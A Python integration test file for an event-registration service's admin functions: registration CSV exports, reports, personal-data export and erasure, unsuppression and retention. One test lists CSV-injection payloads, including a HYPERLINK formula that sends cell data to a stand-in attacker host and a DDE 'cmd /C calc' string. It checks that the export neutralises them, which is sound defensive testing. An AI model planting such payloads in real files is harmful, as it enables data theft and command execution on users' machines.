"""Exports, reports and data protection under moto: export_registrations, report, export_person,
forget_person, unsuppress, and the retention of registrations and profiles (TTL)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import boto3
import pytest
import requests
from botocore.stub import Stubber

from infra.local.resources import create_bucket, create_stack
from infra.testkit import REGION, raw_table
from infra.testkit.api import call_api, invoke_admin, outbox
from infra.testkit.morning import pump, run_dispatch
from shared import clock, services
from shared.domain.models import RegistrationStatus
from shared.workflows import exports
from tests.integration.helpers import create_event, sign_up, text_part
from tests.integration.test_ses_events import handle, ses_event

EVENT_DAY_0700 = datetime(2026, 12, 9, 7, 0, tzinfo=UTC)
EVENT_DAY_RUN = "2026-12-09T07:00:00Z"
ADA = {"name": "Ada Lovelace", "email": "ada@example.org", "role": "academic"}
GRACE = {"name": "Grace Hopper", "email": "grace@example.org", "role": "lived_experience"}
KATH = {"name": "Katherine Johnson", "email": "kath@example.org", "role": "commissioner"}


@pytest.fixture
def bucket(aws, monkeypatch) -> str:
    """The export bucket template.yaml declares (created by create_stack), in AdminFunction's
    EXPORT_BUCKET; a bucket made here while the template has none."""
    name = aws.physical.get("ExportBucket")
    if name is None:
        name = create_bucket(
            {
                "BucketEncryption": {
                    "ServerSideEncryptionConfiguration": [
                        {"ServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}
                    ]
                }
            },
            "local-exportbucket",
            REGION,
        )
    monkeypatch.setenv("EXPORT_BUCKET", name)
    monkeypatch.setenv("SES_MAX_SEND_RATE", "100000")
    services.reset()
    return name


def s3() -> Any:
    return boto3.client("s3", region_name=REGION)


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def object_key(s3_uri: str, bucket: str) -> str:
    prefix = f"s3://{bucket}/"
    assert s3_uri.startswith(prefix)
    return s3_uri.removeprefix(prefix)


def stored_keys(bucket: str) -> list[str]:
    return [o["Key"] for o in s3().list_objects_v2(Bucket=bucket).get("Contents", [])]


def table_items() -> list[dict[str, Any]]:
    return sorted(raw_table.scan(), key=lambda item: (item["PK"]["S"], item["SK"]["S"]))


def profile(address: str) -> dict[str, Any] | None:
    return services.get().stores.people.raw(services.get().person_id_for(address))


def marker(address: str) -> dict[str, Any] | None:
    """The hash-only suppression marker as stored, empty or not."""
    return raw_table.get_item(raw_table.marker_key(services.get().person_id_for(address)))


def assert_only_the_keyed_hash_is_kept(address: str, suppression: str) -> None:
    """No profile; a marker holding the keyed hash (its key), the level and when: no address,
    no name, no expiry."""
    assert profile(address) is None
    kept = marker(address)
    assert kept is not None
    assert set(kept) == {"PK", "SK", "suppression", "suppressed_at"}
    assert kept["PK"] == f"PERSON#{services.get().person_id_for(address)}"
    assert (kept["SK"], kept["suppression"]) == ("SUPPRESSION", suppression)


def report(first: str, last: str) -> dict[str, Any]:
    answer = invoke_admin({"action": "report", "from": first, "to": last})
    assert answer["ok"], answer
    return answer


def counts_of(answer: dict[str, Any], event_id: str) -> dict[str, Any]:
    (row,) = [row for row in answer["events"] if row["event_id"] == event_id]
    return row


# --- export_registrations -------------------------------------------------------------------------


def test_export_registrations_writes_an_encrypted_csv_with_a_header_and_a_one_hour_link(bucket):
    event_id = create_event(capacity=1)
    sign_up(
        [event_id],
        **ADA,
        organisation="Analytical Engines Ltd",
        access_needs="Live captions, please",
        access_needs_consent=True,
    )
    sign_up([event_id], **GRACE)

    answer = invoke_admin({"action": "export_registrations", "event_id": event_id})

    assert answer["ok"] is True, answer
    assert answer["rows"] == 2
    key = object_key(answer["s3_uri"], bucket)
    assert key.startswith(f"exports/{event_id}/") and key.endswith(".csv")
    stored = s3().get_object(Bucket=bucket, Key=key)
    assert stored["ServerSideEncryption"] == exports.SERVER_SIDE_ENCRYPTION
    assert stored["ContentType"].startswith("text/csv")
    body = stored["Body"].read()
    assert body.startswith(b"\xef\xbb\xbfname,email,role,organisation,access_needs,status,")
    assert read_csv(body) == [
        {
            "name": "Ada Lovelace",
            "email": "ada@example.org",
            "role": "academic",
            "organisation": "Analytical Engines Ltd",
            "access_needs": "Live captions, please",
            "status": "registered",
            "registered_at": "2026-11-25T10:00:00+00:00",
            "link_sent_at": "",
            "opened_at": "",
            "joined_at": "",
            "phone": "",
        },
        {
            "name": "Grace Hopper",
            "email": "grace@example.org",
            "role": "lived_experience",
            "organisation": "",
            "access_needs": "",
            "status": "waitlisted",
            "registered_at": "2026-11-25T10:00:00+00:00",
            "link_sent_at": "",
            "opened_at": "",
            "joined_at": "",
            "phone": "",
        },
    ]
    # The presigned URL: one hour, and it fetches exactly that file.
    url = answer["download_url"]
    query = parse_qs(urlsplit(url).query)
    assert query["X-Amz-Expires"] == ["3600"]
    assert query["X-Amz-Algorithm"] == ["AWS4-HMAC-SHA256"]
    assert urlsplit(url).hostname == f"{bucket}.s3.{REGION}.amazonaws.com"
    download = requests.get(url, timeout=5)
    assert download.status_code == 200
    assert download.content == body


def test_cells_a_spreadsheet_would_run_are_neutralised(bucket):
    event_id = create_event()
    hostile = [
        ('=HYPERLINK("https://evil.example/?x="&A1,"Click")', "formula@example.org", "=1+1"),
        ("+44 20 7946 0000", "plus@example.org", "+cmd|' /C calc'!A0"),
        ("-2+3", "-dash@example.org", "-1"),
        ("@SUM(A1:A9)", "at@example.org", "@now"),
    ]
    for name, address, organisation in hostile:
        assert sign_up([event_id], name=name, email=address, organisation=organisation).status == 201
    # Tabs and carriage returns cannot come through the sign-up form (it trims and refuses
    # them in a name), but an item written by anything else must not smuggle a formula either.
    person_id = services.get().person_id_for("at@example.org")
    raw_table.update_item(
        Key=raw_table.registration_key(event_id, person_id),
        UpdateExpression="SET access_needs = :tab",
        ExpressionAttributeValues={":tab": {"S": "\t=2+2"}},
    )
    raw_table.update_item(
        Key=raw_table.person_key(person_id),
        UpdateExpression="SET organisation = :cr",
        ExpressionAttributeValues={":cr": {"S": "\r=3+3"}},
    )

    answer = invoke_admin({"action": "export_registrations", "event_id": event_id})

    rows = read_csv(s3().get_object(Bucket=bucket, Key=object_key(answer["s3_uri"], bucket))["Body"].read())
    by_email = {row["email"]: row for row in rows}
    assert by_email["formula@example.org"]["name"] == "'" + hostile[0][0]
    assert by_email["formula@example.org"]["organisation"] == "'=1+1"
    assert by_email["plus@example.org"]["name"] == "'+44 20 7946 0000"
    assert by_email["plus@example.org"]["organisation"] == "'+cmd|' /C calc'!A0"
    assert by_email["'-dash@example.org"]["name"] == "'-2+3"
    assert by_email["at@example.org"]["name"] == "'@SUM(A1:A9)"
    assert by_email["at@example.org"]["access_needs"] == "'\t=2+2"
    assert by_email["at@example.org"]["organisation"] == "'\r=3+3"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(exports.FORMULA_STARTS), cell


def test_exporting_an_unknown_event_or_without_a_bucket_says_so(bucket, monkeypatch):
    missing = invoke_admin({"action": "export_registrations", "event_id": "no-such-event"})
    assert missing["ok"] is False
    assert missing["error"]["code"] == "not_found"

    monkeypatch.setenv("EXPORT_BUCKET", "")
    services.reset()
    unset = invoke_admin({"action": "export_registrations", "event_id": create_event()})
    assert unset["ok"] is False
    assert unset["error"]["code"] == "not_configured"
    assert "EXPORT_BUCKET" in unset["error"]["message"]


# --- report ---------------------------------------------------------------------------------------


def test_report_counts_roles_and_statuses_from_the_events_counters(bucket):
    full = create_event("Full house", "2026-12-09T14:00:00", capacity=1)
    other = create_event("Open door", "2026-12-16T14:00:00")
    later = create_event("Next year", "2027-01-13T14:00:00")
    sign_up([full, other], **ADA)
    sign_up([full, other], **GRACE)  # waiting list at the full event
    sign_up([other, later], **KATH)
    services.get().registrations.cancel(full, services.get().person_id_for(ADA["email"]), clock.now())
    # Grace is promoted
    services.get().stores.registrations.record_first_open(
        other, services.get().person_id_for(KATH["email"]), clock.now()
    )

    answer = report("2026-12-01", "2026-12-31")

    assert [row["event_id"] for row in answer["events"]] == [full, other]
    full_row = counts_of(answer, full)
    assert full_row["title"] == "Full house"
    assert full_row["starts_at"] == "2026-12-09T14:00:00+00:00"
    assert full_row["counts"]["academic"] == {"registered": 0, "waitlisted": 0, "cancelled": 1}
    assert full_row["counts"]["lived_experience"] == {"registered": 1, "waitlisted": 0, "cancelled": 0}
    assert full_row["counts"]["commissioner"] == {"registered": 0, "waitlisted": 0, "cancelled": 0}
    assert full_row["totals"] == {"registered": 1, "waitlisted": 0, "cancelled": 1}
    assert full_row["links_opened"] == 0
    other_row = counts_of(answer, other)
    assert other_row["totals"] == {"registered": 3, "waitlisted": 0, "cancelled": 0}
    assert other_row["links_opened"] == 1
    assert answer["totals"]["events"] == 2
    assert answer["totals"]["by_status"] == {"registered": 4, "waitlisted": 0, "cancelled": 1}
    assert answer["totals"]["counts"]["academic"]["registered"] == 1
    assert answer["totals"]["links_opened"] == 1
    text = json.dumps(answer)
    for person in (ADA, GRACE, KATH):
        assert person["email"] not in text and person["name"] not in text


def test_report_dates_are_uk_dates_and_inclusive(bucket):
    # 00:30 on 30 June 2027, UK summer time, is still 29 June in UTC.
    event_id = create_event("Midnight oil", "2027-06-30T00:30:00")

    assert [row["event_id"] for row in report("2027-06-30", "2027-06-30")["events"]] == [event_id]
    assert report("2027-06-29", "2027-06-29")["events"] == []
    assert [row["event_id"] for row in report("2027-06-01", "2027-06-30")["events"]] == [event_id]


@pytest.mark.parametrize(
    ("event", "field"),
    [
        ({"from": "2026-12-31", "to": "2026-12-01"}, "to"),
        ({"from": "last tuesday", "to": "2026-12-01"}, "from"),
        ({"from": "2026-12-01"}, "to"),
        ({"from": "2026-12-01", "to": "2026-12-31", "format": "xlsx"}, "format"),
    ],
)
def test_a_bad_report_request_names_the_field(aws, event, field):
    answer = invoke_admin({"action": "report", **event})

    assert answer["ok"] is False
    assert answer["error"]["code"] == "validation_error"
    assert field in answer["error"]["fields"]


# --- export_person ---------------------------------------------------------------------------------


def test_export_person_gives_everything_held_about_an_address(bucket):
    first = create_event("Co-production in a Digital World", "2026-12-09T14:00:00")
    second = create_event("When to re-balance the power?", "2027-01-13T14:00:00")
    sign_up(
        [first, second],
        **ADA,
        organisation="Analytical Engines Ltd",
        access_needs="Live captions, please",
        access_needs_consent=True,
    )
    sign_up([first], **GRACE)
    export = invoke_admin({"action": "export_registrations", "event_id": first})
    invoke_admin({"action": "export_registrations", "event_id": second})
    clock.freeze(EVENT_DAY_0700)
    run_dispatch(EVENT_DAY_RUN)  # the morning batch holds Ada's address and name

    answer = invoke_admin({"action": "export_person", "email": "  ADA@Example.org "})

    assert answer["ok"] is True, answer
    assert answer["person_id"] == services.get().person_id_for("ada@example.org")
    person = answer["person"]
    assert person["email"] == "ada@example.org"
    assert person["name"] == "Ada Lovelace"
    assert person["organisation"] == "Analytical Engines Ltd"
    assert person["expires_at"] == "2028-01-13T15:30:00+00:00"
    assert "PK" not in person and "SK" not in person
    assert [r["title"] for r in answer["registrations"]] == [
        "Co-production in a Digital World",
        "When to re-balance the power?",
    ]
    assert {r["access_needs"] for r in answer["registrations"]} == {"Live captions, please"}
    assert {r["status"] for r in answer["registrations"]} == {"registered"}
    assert answer["registrations"][0]["starts_at"] == "2026-12-09T14:00:00+00:00"
    assert answer["morning_send"] == [first]
    # Both exports name Ada; the file for the first event also names Grace.
    assert export["s3_uri"] in answer["exports"]
    assert len(answer["exports"]) == 2
    assert answer["ses_suppression_list"]["state"] == "unknown"  # moto lacks the call
    assert "Grace" not in json.dumps(answer) and "grace@" not in json.dumps(answer)


def test_export_person_for_an_address_we_do_not_know_holds_nothing(bucket):
    create_event()

    answer = invoke_admin({"action": "export_person", "email": "nobody@example.org"})

    assert answer["ok"] is True
    assert answer["person"] is None
    assert answer["registrations"] == []
    assert answer["exports"] == []
    assert answer["morning_send"] == []


# --- forget_person ----------------------------------------------------------------------------------


def test_forget_person_erases_every_store_and_leaves_the_counts(bucket, aws):
    past = create_event("Last week", "2026-12-02T14:00:00")
    today = create_event("Co-production in a Digital World", "2026-12-09T14:00:00")
    full = create_event("Full house", "2027-01-13T14:00:00", capacity=1)
    sign_up(
        [past, today, full],
        **ADA,
        access_needs="Live captions, please",
        access_needs_consent=True,
    )
    sign_up([today, full], **GRACE)  # on the waiting list at the full event
    sign_up([past], **KATH)
    with_ada = invoke_admin({"action": "export_registrations", "event_id": full})
    # An export of an event Ada is not at stays.
    kath_event = create_event("Kath only", "2026-12-03T14:00:00")
    sign_up([kath_event], **KATH)
    kath_only = object_key(
        invoke_admin({"action": "export_registrations", "event_id": kath_event})["s3_uri"], bucket
    )
    clock.freeze(EVENT_DAY_0700)  # the past event has ended; today's batch is queued
    run_dispatch(EVENT_DAY_RUN)
    before = report("2026-12-01", "2027-01-31")

    answer = invoke_admin({"action": "forget_person", "email": "Ada@Example.org"})

    assert answer["ok"] is True, answer
    assert answer["dry_run"] is False
    assert answer["erased"] == {
        "profile": 1,
        "registrations": 3,
        "morning_send_recipients": 1,
        "notice_recipients": 0,
        "exports": 1,
        "ses_suppression_list": 0,
        "rate_limits": 1,
        "queued_messages": 0,
    }
    assert answer["cancelled"] == [today, full]  # the places still open; the past one is history
    assert answer["kept"] is None
    assert answer["exports_deleted"] == [with_ada["s3_uri"]]
    assert answer["ses_suppression_list"] == "unsupported"

    ada_id = services.get().person_id_for("ada@example.org")
    remaining = json.dumps(table_items())
    assert ada_id not in remaining
    assert "ada@example.org" not in remaining and "Ada Lovelace" not in remaining
    assert "Live captions" not in remaining
    assert stored_keys(bucket) == [kath_only]
    # Grace was promoted into Ada's place, and told.
    grace = services.get().stores.registrations.get(full, services.get().person_id_for(GRACE["email"]))
    assert grace is not None and grace.status is RegistrationStatus.registered
    assert any(m["To"].addresses[0].addr_spec == GRACE["email"] for m in outbox())
    # Counts stay: the past event exactly as before; the open ones count Ada's cancellation.
    after = report("2026-12-01", "2027-01-31")
    assert counts_of(after, past) == counts_of(before, past)
    assert counts_of(after, today)["counts"]["academic"] == {"registered": 0, "waitlisted": 0, "cancelled": 1}
    assert counts_of(after, full)["totals"] == {"registered": 1, "waitlisted": 0, "cancelled": 1}
    # The queued morning send reaches Grace and not Ada.
    sent_before = len(outbox())
    pump(aws)
    recipients = [m["To"].addresses[0].addr_spec for m in outbox()[sent_before:]]
    assert recipients == [GRACE["email"]]
    # Nothing is left to find.
    again = invoke_admin({"action": "export_person", "email": "ada@example.org"})
    assert (again["person"], again["registrations"], again["exports"], again["morning_send"]) == (
        None,
        [],
        [],
        [],
    )


def test_forget_person_takes_the_persons_id_out_of_queued_change_notices(bucket):
    event_id = create_event()
    sign_up([event_id], **ADA)
    sign_up([event_id], **GRACE)
    moved = invoke_admin({"action": "update_event", "event_id": event_id, "starts_at": "2026-12-09T15:00:00"})
    assert moved["ok"] is True, moved

    answer = invoke_admin({"action": "forget_person", "email": ADA["email"]})

    assert answer["erased"]["notice_recipients"] == 1
    batches = services.get().stores.batches.of_event(event_id, "notice")
    held = [person_id for batch in batches for person_id in batch.recipients]
    assert held == [services.get().person_id_for(GRACE["email"])]


def test_a_dry_run_says_what_would_go_and_changes_nothing(bucket):
    event_id = create_event(capacity=1)
    sign_up([event_id], **ADA)
    sign_up([event_id], **GRACE)
    invoke_admin({"action": "export_registrations", "event_id": event_id})
    items, keys, sent = table_items(), stored_keys(bucket), len(outbox())

    preview = invoke_admin({"action": "forget_person", "email": "ada@example.org", "dry_run": True})

    assert preview["ok"] is True, preview
    assert preview["dry_run"] is True
    assert (table_items(), stored_keys(bucket), len(outbox())) == (items, keys, sent)
    done = invoke_admin({"action": "forget_person", "email": "ada@example.org"})
    assert preview["erased"] == done["erased"]
    assert preview["cancelled"] == done["cancelled"] == [event_id]
    assert preview["exports_deleted"] == done["exports_deleted"]
    assert preview["erased"]["registrations"] == 1 and preview["erased"]["exports"] == 1


def test_an_unsubscribed_person_keeps_only_the_keyed_hash_and_no_expiry(bucket):
    event_id = create_event()
    sign_up([event_id], **ADA)
    person_id = services.get().person_id_for(ADA["email"])
    raw_table.update_item(  # as POST /unsubscribe does
        Key=raw_table.person_key(person_id),
        UpdateExpression="SET suppression = :s, unsubscribed_at = :now",
        ExpressionAttributeValues={":s": {"S": "unsubscribed"}, ":now": {"S": "2026-11-25T10:00:00Z"}},
    )

    answer = invoke_admin({"action": "forget_person", "email": ADA["email"]})

    assert answer["kept"] == {"suppression": "unsubscribed"}
    assert answer["erased"]["profile"] == 1
    assert_only_the_keyed_hash_is_kept(ADA["email"], "unsubscribed")


def test_a_person_who_complained_stays_unmailed_after_erasure(bucket):
    address = "complainer@example.org"
    first = create_event()
    second = create_event("Next year", "2027-01-13T14:00:00")
    sign_up([first], name="Cora Plain", email=address, role="manager")
    handle(ses_event("complaint", address))

    answer = invoke_admin({"action": "forget_person", "email": address})

    assert answer["kept"] == {"suppression": "complained"}
    assert_only_the_keyed_hash_is_kept(address, "complained")
    again = sign_up([second], name="Cora Plain", email=address, role="manager")
    assert again.json()["signup"]["confirmation"] == "suppressed"


def test_a_bounced_person_is_erased_entirely(bucket):
    address = "bouncer@example.org"
    sign_up([create_event()], name="Bo Uncer", email=address, role="other")
    handle(ses_event("bounce-permanent", address))

    answer = invoke_admin({"action": "forget_person", "email": address})

    assert answer["kept"] is None
    assert profile(address) is None
    assert marker(address) is None


def test_a_complaint_known_only_to_ses_keeps_the_hash_and_the_ses_entry_goes(bucket, monkeypatch):
    address = "ada@example.org"
    sign_up([create_event()], **ADA)
    client = boto3.client("sesv2", region_name=REGION)
    stub = Stubber(client)
    stub.add_response(
        "get_suppressed_destination",
        {
            "SuppressedDestination": {
                "EmailAddress": address,
                "Reason": "COMPLAINT",
                "LastUpdateTime": datetime(2026, 11, 1, tzinfo=UTC),
            }
        },
        {"EmailAddress": address},
    )
    stub.add_response("delete_suppressed_destination", {}, {"EmailAddress": address})
    services.override(ses=client)

    with stub:
        answer = invoke_admin({"action": "forget_person", "email": address})

    stub.assert_no_pending_responses()
    assert answer["ses_suppression_list"] == "removed"
    assert answer["erased"]["ses_suppression_list"] == 1
    assert answer["kept"] == {"suppression": "complained"}
    assert_only_the_keyed_hash_is_kept(address, "complained")


def test_when_ses_cannot_be_asked_nothing_is_erased(bucket, monkeypatch):
    sign_up([create_event()], **ADA)
    client = boto3.client("sesv2", region_name=REGION)
    stub = Stubber(client)
    stub.add_client_error("get_suppressed_destination", "ThrottlingException", http_status_code=429)
    services.override(ses=client)
    items = table_items()

    with stub:
        answer = invoke_admin({"action": "forget_person", "email": ADA["email"]})

    assert answer["ok"] is False
    assert answer["error"]["code"] == "unavailable"
    assert "ThrottlingException" in answer["error"]["message"]
    assert table_items() == items


@pytest.mark.parametrize(
    ("event", "field"),
    [
        ({"action": "forget_person", "email": "not-an-address"}, "email"),
        ({"action": "forget_person"}, "email"),
        ({"action": "forget_person", "email": "ada@example.org", "dry_run": "perhaps"}, "dry_run"),
        ({"action": "forget_person", "email": "ada@example.org", "dryrun": True}, "dryrun"),
        ({"action": "export_person", "email": "ada@"}, "email"),
        ({"action": "unsuppress", "email": ""}, "email"),
        ({"action": "export_registrations"}, "event_id"),
    ],
)
def test_bad_input_names_the_field(aws, event, field):
    answer = invoke_admin(event)

    assert answer["ok"] is False
    assert answer["error"]["code"] == "validation_error"
    assert field in answer["error"]["fields"]


# --- unsuppress ----------------------------------------------------------------------------------


def test_unsuppress_lets_a_bounced_person_be_emailed_again(bucket):
    address = "bouncer@example.org"
    first = create_event()
    second = create_event("Second", "2027-01-13T14:00:00")
    third = create_event("Third", "2027-02-10T14:00:00")
    details = {"name": "Bo Uncer", "email": address, "role": "other"}
    sign_up([first], **details)
    handle(ses_event("bounce-permanent", address))
    assert sign_up([second], **details).json()["signup"]["confirmation"] == "suppressed"

    answer = invoke_admin({"action": "unsuppress", "email": address})

    assert answer == {
        "ok": True,
        "suppression_removed": "bounced",
        "profile": "cleared",
        "ses_suppression_list": "unsupported",
        "changed": True,
    }
    assert "suppression" not in profile(address) and "suppressed_at" not in profile(address)
    assert marker(address) is None
    assert sign_up([third], **details).json()["signup"]["confirmation"] == "sent"
    assert outbox()[-1]["To"].addresses[0].addr_spec == address
    assert "Third" in text_part(outbox()[-1])


def test_unsuppress_deletes_a_bare_marker_and_answers_nothing_changed_when_nothing_was(bucket):
    handle(ses_event("bounce-permanent", "stranger@example.org"))
    assert profile("stranger@example.org") is None  # an unknown address gets a marker only

    cleared = invoke_admin({"action": "unsuppress", "email": "stranger@example.org"})
    again = invoke_admin({"action": "unsuppress", "email": "stranger@example.org"})

    assert (cleared["profile"], cleared["suppression_removed"]) == ("cleared", "bounced")
    assert marker("stranger@example.org") is None
    assert (again["profile"], again["suppression_removed"], again["changed"]) == ("none", None, False)


def test_unsuppress_removes_the_ses_entry_through_the_adapter(bucket, monkeypatch):
    client = boto3.client("sesv2", region_name=REGION)
    stub = Stubber(client)
    stub.add_response("delete_suppressed_destination", {}, {"EmailAddress": "ada@example.org"})
    services.override(ses=client)

    with stub:
        answer = invoke_admin({"action": "unsuppress", "email": "ada@example.org"})

    assert (answer["ses_suppression_list"], answer["changed"]) == ("removed", True)


# --- retention ------------------------------------------------------------------------------------


def _epoch(moment: datetime) -> int:
    return int(moment.timestamp())


def _expiry(item: dict[str, Any] | None) -> int:
    assert item is not None
    return int(item["expires_at"])


def test_registrations_and_profiles_expire_retention_days_after_their_last_event(aws):
    first = create_event("First", "2026-12-09T14:00:00")  # ends 15:30 UTC
    later = create_event("Later", "2027-01-13T14:00:00")
    person_id = services.get().person_id_for(ADA["email"])

    sign_up([first], **ADA)
    first_end = datetime(2026, 12, 9, 15, 30, tzinfo=UTC)
    registration = raw_table.get_item(raw_table.registration_key(first, person_id))
    assert _expiry(registration) == _epoch(first_end + timedelta(days=365))
    assert _expiry(profile(ADA["email"])) == _epoch(first_end + timedelta(days=365))

    sign_up([later], **ADA)
    later_end = datetime(2027, 1, 13, 15, 30, tzinfo=UTC)
    assert _expiry(profile(ADA["email"])) == _epoch(later_end + timedelta(days=365))
    registration = raw_table.get_item(raw_table.registration_key(first, person_id))
    assert _expiry(registration) == _epoch(first_end + timedelta(days=365))
    ttl = raw_table.client().describe_time_to_live(TableName=raw_table.name())
    assert ttl["TimeToLiveDescription"]["AttributeName"] == "expires_at"


def test_signing_up_for_an_earlier_event_later_does_not_shorten_the_profiles_life(aws):
    early = create_event("Early", "2026-12-09T14:00:00")
    late = create_event("Late", "2027-01-13T14:00:00")
    sign_up([late], **ADA)
    sign_up([early], **ADA)

    later_end = datetime(2027, 1, 13, 15, 30, tzinfo=UTC)
    assert _expiry(profile(ADA["email"])) == _epoch(later_end + timedelta(days=365))


def test_the_retention_parameter_sets_the_expiry(aws, monkeypatch):
    monkeypatch.setenv("RETENTION_DAYS", "30")
    services.reset()
    event_id = create_event("First", "2026-12-09T14:00:00")

    sign_up([event_id], **ADA)

    assert _expiry(profile(ADA["email"])) == _epoch(datetime(2027, 1, 8, 15, 30, tzinfo=UTC))


def test_suppression_markers_keep_no_expiry(bucket):
    handle(ses_event("complaint", "stranger@example.org"))
    sign_up([create_event()], **ADA)
    call_api_unsubscribe(ADA["email"])
    assert "expires_at" in profile(ADA["email"])  # the profile itself expires with its last event
    assert "expires_at" not in marker(ADA["email"])
    invoke_admin({"action": "forget_person", "email": ADA["email"]})

    assert "expires_at" not in marker("stranger@example.org")
    assert_only_the_keyed_hash_is_kept(ADA["email"], "unsubscribed")


def call_api_unsubscribe(address: str) -> None:
    url = services.get().links.unsubscribe(services.get().person_id_for(address), clock.now())
    parts = urlsplit(url)
    answer = call_api("POST", parts.path, query={"token": parts.query.removeprefix("token=")})
    assert answer.status == 200, answer.body


# --- the local stack creates the template's buckets ---------------------------------------------------


def test_the_templates_export_bucket_is_private_encrypted_as_exports_write_and_expires_them(bucket, aws):
    assert aws.physical.get("ExportBucket") == bucket, "template.yaml declares ExportBucket"
    encryption = s3().get_bucket_encryption(Bucket=bucket)["ServerSideEncryptionConfiguration"]
    (rule,) = encryption["Rules"]
    # The algorithm export_registrations asks for is the bucket's own (SSE-S3: no KMS key needed
    # to follow a presigned link).
    assert rule["ApplyServerSideEncryptionByDefault"]["SSEAlgorithm"] == exports.SERVER_SIDE_ENCRYPTION
    assert all(s3().get_public_access_block(Bucket=bucket)["PublicAccessBlockConfiguration"].values())
    rules = s3().get_bucket_lifecycle_configuration(Bucket=bucket)["Rules"]
    assert [r["Expiration"]["Days"] for r in rules if r["Status"] == "Enabled"] == [30]
    assert s3().get_bucket_versioning(Bucket=bucket).get("Status") != "Enabled"


def test_create_stack_creates_buckets_with_their_encryption_access_block_and_lifecycle(aws):
    template = {
        "Resources": {
            "ExportBucket": {
                "Type": "AWS::S3::Bucket",
                "DeletionPolicy": "Retain",
                "Properties": {
                    "BucketEncryption": {
                        "ServerSideEncryptionConfiguration": [
                            {"ServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}
                        ]
                    },
                    "PublicAccessBlockConfiguration": {
                        "BlockPublicAcls": True,
                        "BlockPublicPolicy": True,
                        "IgnorePublicAcls": True,
                        "RestrictPublicBuckets": True,
                    },
                    "OwnershipControls": {"Rules": [{"ObjectOwnership": "BucketOwnerEnforced"}]},
                    "LifecycleConfiguration": {
                        "Rules": [
                            {
                                "Id": "ExpireExports",
                                "Status": "Enabled",
                                "Prefix": "exports/",
                                "ExpirationInDays": 30,
                                "AbortIncompleteMultipartUpload": {"DaysAfterInitiation": 1},
                            }
                        ]
                    },
                },
            }
        }
    }

    stack = create_stack({}, stack_name="other", region=REGION, template=template)

    name = stack.physical["ExportBucket"]
    assert name == "other-exportbucket"
    assert stack.arns["ExportBucket"] == f"arn:aws:s3:::{name}"
    encryption = s3().get_bucket_encryption(Bucket=name)["ServerSideEncryptionConfiguration"]
    assert encryption["Rules"][0]["ApplyServerSideEncryptionByDefault"]["SSEAlgorithm"] == "AES256"
    block = s3().get_public_access_block(Bucket=name)["PublicAccessBlockConfiguration"]
    assert all(block.values())
    (rule,) = s3().get_bucket_lifecycle_configuration(Bucket=name)["Rules"]
    assert (rule["ID"], rule["Expiration"]["Days"], rule["Filter"]["Prefix"]) == (
        "ExpireExports",
        30,
        "exports/",
    )


# --- logs ---------------------------------------------------------------------------------------------


def test_no_log_line_of_these_actions_names_the_person(bucket):
    from tests.integration.test_privacy import every_log_line

    event_id = create_event(capacity=1)
    sign_up([event_id], **ADA, access_needs="Live captions, please", access_needs_consent=True)
    sign_up([event_id], **GRACE)

    with every_log_line() as logs:
        for action in (
            {"action": "export_registrations", "event_id": event_id},
            {"action": "report", "from": "2026-12-01", "to": "2026-12-31"},
            {"action": "export_person", "email": ADA["email"]},
            {"action": "unsuppress", "email": ADA["email"]},
            {"action": "forget_person", "email": ADA["email"], "dry_run": True},
            {"action": "forget_person", "email": ADA["email"]},
        ):
            assert invoke_admin(action)["ok"] is True, action

    text = logs.getvalue()
    assert "registrations exported" in text and "person forgotten" in text
    for secret in (
        *ADA.values(),
        *GRACE.values(),
        "Live captions",
        services.get().person_id_for(ADA["email"]),
    ):
        if secret not in ("academic", "lived_experience"):
            assert secret.lower() not in text.lower(), secret
